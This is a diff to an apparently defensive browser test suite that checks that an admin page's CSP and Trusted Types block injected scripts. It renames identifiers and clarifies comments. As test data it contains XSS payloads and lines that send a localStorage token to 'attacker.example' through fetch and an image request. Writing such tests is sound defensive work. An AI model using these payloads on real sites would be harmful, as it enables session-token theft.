@@ -1,7 +1,7 @@
 import { expect, expectLoaded, test } from './support';
 
-/** What a text that has got into the page would do to run, each on the way that it would take. */
-const waysToRun: Record<string, string | (() => unknown)> = {
+/** Ways in which an injected text may be executed. */
+const scriptInjections: Record<string, string | (() => unknown)> = {
   'markup with a handler': () => (document.body.innerHTML = '<img src="/" onerror="window.isTaken = true">'),
   'markup beside': () => document.body.insertAdjacentHTML('beforeend', '<b>Your session has ended</b>'),
   'a page in a frame': () => {
@@ -19,8 +19,8 @@ const waysToRun: Record<string, string | (() => unknown)> = {
   'another policy in the place of ours': "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
 };
 
-/** What a script would do to take the token away. */
-const waysOut: Record<string, () => Promise<unknown>> = {
+/** Ways in which an injected script may send the token to another origin. */
+const exfiltrations: Record<string, () => Promise<unknown>> = {
   'a call': () => fetch(`https://attacker.example/?${localStorage.getItem('token')}`),
   'an image': () => {
     const image = new Image();
@@ -29,30 +29,31 @@ const waysOut: Record<string, () => Promise<unknown>> = {
   },
 };
 
-test.describe('whoever gets something into the panel', () => {
-  test.use({ isRefusalMeant: true });
+test.describe('an attacker who injects content', () => {
+  test.use({ allowsCspViolations: true });
 
-  test('a text runs on no way, and the token leaves for no other origin', async ({ page, refused }) => {
+  test('cannot run a script, and cannot send the token to another origin', async ({ page, cspViolations }) => {
     await page.goto('/admin/plans');
     await expectLoaded(page);
-    for (const [way, run] of Object.entries(waysToRun)) await expect(page.evaluate(run), way).rejects.toThrow();
+    for (const [name, run] of Object.entries(scriptInjections))
+      await expect(page.evaluate(run), name).rejects.toThrow();
 
-    // An inline script of pieces is refused without a word to whoever adds it.
+    // The browser blocks an inline script that is built from nodes without throwing.
     await page.evaluate(() => {
       const script = document.createElement('script');
       script.append('window.isTaken = true');
       document.body.append(script);
     });
     expect(await page.evaluate(() => 'isTaken' in window)).toBe(false);
-    await expect.poll(() => refused).not.toEqual([]);
+    await expect.poll(() => cspViolations).not.toEqual([]);
 
     const sent: string[] = [];
     await page.route('https://attacker.example/**', (route) => {
       sent.push(route.request().url());
       return route.fulfill({ headers: { 'access-control-allow-origin': '*' } });
     });
-    for (const [way, send] of Object.entries(waysOut)) await expect(page.evaluate(send), way).rejects.toThrow();
+    for (const [name, send] of Object.entries(exfiltrations)) await expect(page.evaluate(send), name).rejects.toThrow();
     expect(sent).toEqual([]);
-    await expect.poll(() => refused).not.toEqual([]);
+    await expect.poll(() => cspViolations).not.toEqual([]);
   });
 });
